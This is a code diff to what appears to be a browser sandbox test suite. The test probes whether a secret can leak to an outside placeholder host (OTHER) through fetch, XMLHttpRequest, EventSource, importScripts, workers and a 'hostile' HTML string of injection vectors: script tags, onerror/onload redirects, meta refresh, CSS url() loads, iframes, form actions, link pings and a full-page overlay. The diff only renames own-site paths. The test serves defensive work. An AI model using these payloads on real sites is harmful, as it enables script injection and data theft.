@@ -204,7 +204,7 @@ blob := func(text string) string {
 	return self.Get("URL").Call("createObjectURL", self.Get("Blob").New([]any{text}, map[string]any{"type": "text/javascript"})).String()
 }
 try("http.Get", func() string { return get("OTHER/get?secret") })
-try("http.Get of ours", func() string { return get("OWN/search.html?secret") })
+try("http.Get of ours", func() string { return get("OWN/table/index.html?secret") })
 try("fetch without cors", func() string { return settled(self.Call("fetch", "OTHER/opaque?secret", map[string]any{"mode": "no-cors"})) })
 try("XMLHttpRequest", func() string {
 	x := self.Get("XMLHttpRequest").New()
@@ -217,8 +217,8 @@ for _, at := range []string{"OTHER", "OWN"} {
 }
 try("EventSource", func() string { return settled(self.Get("EventSource").New("OTHER/events?secret"), "onopen") })
 try("importScripts", func() string { self.Call("importScripts", "OTHER/script?secret"); return "open" })
-try("importScripts of ours", func() string { self.Call("importScripts", "OWN/search.js?secret"); return "open" })
-try("worker", func() string { return settled(self.Get("Worker").New("OWN/search.js?secret"), "onmessage") })
+try("importScripts of ours", func() string { self.Call("importScripts", "OWN/charts.js?secret"); return "open" })
+try("worker", func() string { return settled(self.Get("Worker").New("OWN/charts.js?secret"), "onmessage") })
 try("nested worker", func() string {
 	return settled(self.Get("Worker").New(blob("fetch('OTHER/nested?secret', {mode: 'no-cors'}).then(() => postMessage(1))")), "onmessage")
 })
@@ -268,13 +268,13 @@ const hostile = `<h3>an output</h3><p style="color: red">with <b>styles</b></p>
 <script src="OTHER/script?secret"></script><script>location.href = "OTHER/inline?secret"</script>
 <img src="data:," onerror="location.href='OTHER/handler?secret'"><svg onload="location.href='OTHER/svg?secret'"></svg>
 <meta http-equiv="refresh" content="0;url=OTHER/refresh?secret"><base href="OTHER/">
-<link rel="stylesheet" href="OTHER/style?secret"><link rel="preconnect" href="OTHER"><link rel="prefetch" href="OWN/search.html?secret"><link rel="stylesheet" href="OWN/style.css?secret">
+<link rel="stylesheet" href="OTHER/style?secret"><link rel="preconnect" href="OTHER"><link rel="prefetch" href="OWN/table/index.html?secret"><link rel="stylesheet" href="OWN/style.css?secret">
 <style>@import "OWN/style.css?import=secret"; @font-face { font-family: q; src: url("OWN/font?secret") } p { font-family: q; background: url("OTHER/bg?secret") } .controls { display: none }</style>
 <p style="background: url('OTHER/attribute?secret'); cursor: url('OWN/cursor?secret'), auto">x</p>
 <svg><image href="OTHER/image?secret"/><use href="OTHER/use?secret#a"/><a href="OTHER/a"><text y="20">link</text></a></svg>
 <iframe src="OTHER/frame?secret"></iframe><iframe srcdoc="<meta http-equiv=refresh content='0;url=OTHER/srcdoc?secret'>"></iframe><object data="OTHER/object?secret"></object><embed src="OTHER/embed?secret">
 <video src="OTHER/video?secret" poster="OTHER/poster?secret"></video><audio src="OTHER/audio?secret" autoplay></audio>
-<form action="OWN/search.html" id="f"><input name="secret" value="1"><button id="submit">Run it</button></form><button form="f" formaction="OTHER/formaction">x</button>
+<form action="OWN/table/index.html" id="f"><input name="secret" value="1"><button id="submit">Run it</button></form><button form="f" formaction="OTHER/formaction">x</button>
 <a id="away" href="OTHER/link?secret" target="_top" ping="OTHER/ping?secret">click here</a><map name="m"><area href="OTHER/area?secret" shape="default"></map>
 <div popover id="pop">over</div><button popovertarget="pop">pop</button><dialog open>dialog</dialog>
 <div id="cover" style="position: fixed; inset: 0; z-index: 9999; background: #fff">covers the page</div>
